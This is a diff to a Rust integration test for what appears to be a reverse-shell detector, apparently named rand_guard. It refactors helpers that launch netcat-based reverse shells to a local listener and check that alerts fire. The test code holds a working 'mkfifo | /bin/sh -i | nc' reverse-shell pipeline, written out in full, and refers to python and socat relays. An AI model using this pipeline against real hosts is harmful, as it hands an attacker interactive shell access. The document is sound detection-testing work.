@@ -7,41 +7,16 @@
 mod common;
 
 use std::fs;
-use std::io::{Read, Write};
+use std::io::Read;
 use std::os::unix::process::CommandExt;
 use std::process::{Child, Command, Stdio};
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
-use common::scenario::{Attacker, CONFIG, Cleanup, alerts, evidence};
+use common::scenario::{Attacker, CONFIG, alerts, evidence, is_alert, shell_alerts, temp_dir};
 use common::{Agent, get, pid_of, privileged, unique};
 use serde_json::Value;
 
 const PYTHON: &str = "/usr/bin/python3";
-
-/// Take the shell's connection, send `echo marker; exit`, and read until
-/// the marker comes back (a relay need not close its end when the shell
-/// exits); the connection is closed on return.
-fn drive(a: &Attacker, marker: &str) -> String {
-    let (mut conn, _) = a.listener.accept().unwrap();
-    conn.set_read_timeout(Some(Duration::from_millis(200)))
-        .unwrap();
-    conn.write_all(format!("echo {marker}\nexit\n").as_bytes())
-        .unwrap();
-    let deadline = Instant::now() + Duration::from_secs(10);
-    let mut out = Vec::new();
-    let mut buf = [0u8; 4096];
-    while Instant::now() < deadline {
-        match conn.read(&mut buf) {
-            Ok(0) => break,
-            Ok(n) => out.extend_from_slice(&buf[..n]),
-            Err(_) => {}
-        }
-        if String::from_utf8_lossy(&out).contains(&format!("{marker}\n")) {
-            break;
-        }
-    }
-    String::from_utf8_lossy(&out).into_owned()
-}
 
 /// Run `script` with bash in its own process group.
 fn bash(script: &str) -> Child {
@@ -61,18 +36,20 @@ fn finish(mut c: Child) {
     let _ = c.wait();
 }
 
-/// The rg-reverse-shell alerts whose evidence has a connection to `port`.
-fn relay_alerts(records: &[Value], port: u16) -> Vec<&Value> {
-    alerts(records, "rg-reverse-shell")
-        .into_iter()
-        .filter(|a| {
-            get(a, "rand_guard.alert.evidence")
-                .as_array()
-                .unwrap()
-                .iter()
-                .any(|e| get(e, "destination.port") == port)
-        })
-        .collect()
+/// `cat FIFO | /bin/sh -i 2>&1 | RELAY 127.0.0.1 PORT > FIFO` under
+/// bash, to `attacker`'s port, driven until the marker comes back; the
+/// bash's pid.
+fn fifo_pipeline(fifo: &str, relay: &str, attacker: &Attacker, marker: &str) -> u32 {
+    let _ = fs::remove_file(fifo);
+    let c = bash(&format!(
+        "mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | {relay} 127.0.0.1 {} > {fifo}",
+        attacker.port
+    ));
+    let pid = c.id();
+    let got = attacker.drive(marker);
+    assert!(got.contains(marker), "{got}");
+    finish(c);
+    pid
 }
 
 #[test]
@@ -82,9 +59,7 @@ fn shells_behind_relays_are_reverse_shells() {
     }
     let agent = Agent::start(CONFIG);
     let marker = unique("relay");
-    let dir = format!("/tmp/{}", unique("rg-relay"));
-    fs::create_dir_all(&dir).unwrap();
-    let _clean = Cleanup(vec![dir.clone()]);
+    let (dir, _clean) = temp_dir("rg-relay");
 
     // 1. A python relay: it holds the TCP connection and feeds a shell
     // through subprocess pipes.
@@ -105,7 +80,7 @@ fn shells_behind_relays_are_reverse_shells() {
         .spawn()
         .unwrap();
     let py_pid = c.id();
-    let got = drive(&py, &marker);
+    let got = py.drive(&marker);
     assert!(got.contains(&marker), "{got}");
     c.wait().unwrap();
 
@@ -117,7 +92,7 @@ fn shells_behind_relays_are_reverse_shells() {
         .spawn()
         .unwrap();
     let socat_pid = c.id();
-    let got = drive(&so, &marker);
+    let got = so.drive(&marker);
     assert!(got.contains(&marker), "{got}");
     c.wait().unwrap();
 
@@ -128,31 +103,15 @@ fn shells_behind_relays_are_reverse_shells() {
     fs::copy("/usr/bin/nc.traditional", &relay).unwrap();
     let fifo = format!("{dir}/f");
     let mk = Attacker::new();
-    let c = bash(&format!(
-        "mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | {relay} 127.0.0.1 {} > {fifo}",
-        mk.port
-    ));
-    let mk_pid = c.id();
-    let got = drive(&mk, &marker);
-    assert!(got.contains(&marker), "{got}");
-    finish(c);
+    let mk_pid = fifo_pipeline(&fifo, &relay, &mk, &marker);
 
     // 4. The same with nc itself: the relay's name says it too, and the
     // incident is still one alert.
-    let _ = fs::remove_file(&fifo);
     let nc = Attacker::new();
-    let c = bash(&format!(
-        "mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | /usr/bin/nc.traditional 127.0.0.1 {} > {fifo}",
-        nc.port
-    ));
-    let nc_bash = c.id();
-    let got = drive(&nc, &marker);
-    assert!(got.contains(&marker), "{got}");
-    finish(c);
+    let nc_bash = fifo_pipeline(&fifo, "/usr/bin/nc.traditional", &nc, &marker);
 
     agent.wait_for("the renamed relay's alert", |r| {
-        r["record_type"] == "alert"
-            && get(r, "rule.id") == "rg-reverse-shell"
+        is_alert(r, "rg-reverse-shell")
             && get(r, "rand_guard.alert.evidence")
                 .as_array()
                 .is_some_and(|e| e.iter().any(|e| get(e, "destination.port") == mk.port))
@@ -162,7 +121,7 @@ fn shells_behind_relays_are_reverse_shells() {
     assert!(status.success(), "{stderr}");
 
     // The python relay: critical, the relay and its connection named.
-    let mine = relay_alerts(&records, py.port);
+    let mine = shell_alerts(&records, py.port);
     assert_eq!(mine.len(), 1, "{mine:#?}");
     let a = mine[0];
     let shell = pid_of(a);
@@ -235,7 +194,7 @@ fn shells_behind_relays_are_reverse_shells() {
     );
 
     // The renamed netcat: found by the pipe alone, at its connect.
-    let mine = relay_alerts(&records, mk.port);
+    let mine = shell_alerts(&records, mk.port);
     assert_eq!(mine.len(), 1, "{mine:#?}");
     let a = mine[0];
     assert_eq!(get(a, "event.severity"), 99);
@@ -272,9 +231,7 @@ fn pipelines_that_are_no_relay_stay_quiet() {
     }
     let agent = Agent::start(CONFIG);
     let marker = unique("norelay");
-    let dir = format!("/tmp/{}", unique("rg-norelay"));
-    fs::create_dir_all(&dir).unwrap();
-    let _clean = Cleanup(vec![dir.clone()]);
+    let (dir, _clean) = temp_dir("rg-norelay");
     let mut parents = Vec::new();
     let mut ports = Vec::new();
 
